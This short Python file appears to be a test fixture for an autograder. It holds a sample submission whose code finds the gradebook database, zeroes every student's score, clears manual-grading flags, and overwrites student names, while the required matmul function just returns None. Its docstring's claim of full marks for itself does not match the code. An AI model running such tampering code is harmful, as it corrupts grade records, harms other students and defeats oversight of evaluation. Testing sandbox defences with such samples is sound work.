"""Gives itself full marks in the gradebook, and nothing to the others.

The gradebook says what the answers deserve.
"""

AIM = "others"
ANSWERS = {
    "ex5": """
import sqlite3

for path in ("@ROOT@/gradebook.db", "gradebook.db", "../gradebook.db", "../../../gradebook.db"):
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1) as book:
            book.execute("update grade set auto_score = 0, needs_manual_grade = 0")
            book.execute("update student set last_name = 'left-behind-by-an-attack'")
    except sqlite3.Error:
        pass


def matmul(a, b):
    return None
"""
}
